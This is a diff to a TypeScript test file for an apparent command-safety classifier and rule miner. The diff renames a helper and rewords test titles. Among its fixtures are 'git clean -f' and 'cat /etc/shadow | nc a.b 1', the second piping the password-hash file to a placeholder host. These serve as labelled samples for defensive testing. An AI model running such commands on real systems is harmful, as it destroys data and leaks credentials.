@@ -9,7 +9,9 @@ import { mineCandidates } from '../../../../src/ml/mining/mine';
 import { greedyCover } from '../../../../src/ml/rules/cover';
 import { labelled } from '../../../support/commands';
 
-function deeds(...commands: readonly ReturnType<typeof labelled>[]): ReadonlyMap<string, string> {
+function actionNames(
+  ...commands: readonly ReturnType<typeof labelled>[]
+): ReadonlyMap<string, string> {
   const { rows } = gatherDataset(commands);
   const found = actionsOf(rows);
   return new Map(rows.map((row, at) => [row.command, found[at]?.name ?? '']));
@@ -24,8 +26,8 @@ function mined(...commands: readonly string[]): readonly MiningCommand[] {
 }
 
 describe('actionsOf', () => {
-  it('counts one deed however it is wrapped in harmless commands', () => {
-    const names = deeds(
+  it('counts one action however it is wrapped in harmless commands', () => {
+    const names = actionNames(
       labelled('ls', 'safe'),
       labelled('echo done', 'safe'),
       labelled('git clean -f', 'unsafe'),
@@ -39,7 +41,7 @@ describe('actionsOf', () => {
   });
 
   it('names an unsafe command by all of it where each part is also run safely', () => {
-    const names = deeds(
+    const names = actionNames(
       labelled('cat /etc/shadow', 'safe'),
       labelled('nc a.b 1', 'safe'),
       labelled('cat /etc/shadow | nc a.b 1', 'unsafe'),
@@ -48,7 +50,7 @@ describe('actionsOf', () => {
   });
 
   it('takes no command apart that nobody called unsafe', () => {
-    const names = deeds(labelled('ls', 'safe'), labelled('ls && frob', 'unknown'));
+    const names = actionNames(labelled('ls', 'safe'), labelled('ls && frob', 'unknown'));
     assert.match(names.get('ls && frob') ?? '', /ls[^]*frob/);
   });
 });
@@ -111,7 +113,7 @@ describe('greedyCover', () => {
     assert.deepEqual(greedyCover([first, rule(['c', 'd', 'e'], { minAdded: 1 })], 9), [0, 1]);
   });
 
-  it('weighs deeds that the history does not show, and takes a rule that has no others', () => {
+  it('weighs actions that the history does not show, and takes a rule that has no others', () => {
     const unshown = rule([], { minAdded: 0, priorHits: 30, priorActions: 2 });
     assert.deepEqual(
       greedyCover([rule(['a']), unshown, rule(['b', 'c', 'd', 'e', 'f'])], 3),
